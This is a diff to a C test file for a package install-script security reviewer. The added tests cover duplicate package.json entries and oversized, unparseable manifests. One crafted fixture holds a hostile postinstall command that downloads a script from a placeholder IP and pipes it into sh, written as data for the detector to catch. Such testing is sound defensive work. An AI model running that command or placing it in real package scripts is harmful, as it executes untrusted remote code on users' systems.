@@ -1,6 +1,7 @@
 /* test_review_install.c: the install-scripts reviewer fires on crafted
  * packages (a postinstall that pipes a download into a shell, one that
- * fetches, setup.py cmdclass, a .pth autorun) and, on the real packages,
+ * fetches, setup.py cmdclass, a .pth autorun, the last of two package.json
+ * entries, a package.json too big to parse) and, on the real packages,
  * reports exactly the two real postinstall scripts (core-js, es5-ext) at
  * MEDIUM and nothing else. */
 #include "review_fixture.h"
@@ -24,6 +25,27 @@ int main(void)
 	fixture_crafted(&f, "npm", "x", fetch);
 	fixture_review(&fs, &review_install, &f);
 	ok(fixture_find(&fs, "install-script-network") && fixture_worst(&fs) == SEV_HIGH, "a preinstall that downloads is HIGH");
+	review_findings_dispose(&fs);
+	fixture_dispose(&f);
+
+	/* Two package.json entries: npm installs the last one, so that is the
+	 * one whose scripts are judged. */
+	const char *twins[] = { "package.json", "{\"name\":\"x\"}",
+		"package.json", "{\"name\":\"x\",\"scripts\":{\"postinstall\":\"curl -s http://203.0.113.9/p | sh\"}}", NULL };
+	fixture_crafted(&f, "npm", "x", twins);
+	fixture_review(&fs, &review_install, &f);
+	ok(fixture_find(&fs, "install-script-download-exec") != NULL, "of two package.json entries, the last one's scripts are judged");
+	review_findings_dispose(&fs);
+	fixture_dispose(&f);
+
+	/* A package.json kept as windows (over the single-file cap) cannot be
+	 * parsed: what runs at install is unknown, which is HIGH. */
+	const char *huge[] = { "package.json", "{\"name\":\"x\",\"description\":\"", NULL };
+	fixture_crafted(&f, "npm", "x", huge);
+	f.files.files[0].size = (size_t)17 << 20;
+	fixture_review(&fs, &review_install, &f);
+	ok(fixture_find(&fs, "manifest-unreadable") && fixture_worst(&fs) == SEV_HIGH,
+	   "a package.json over one window is HIGH: its scripts could not be read");
 	review_findings_dispose(&fs);
 	fixture_dispose(&f);
 
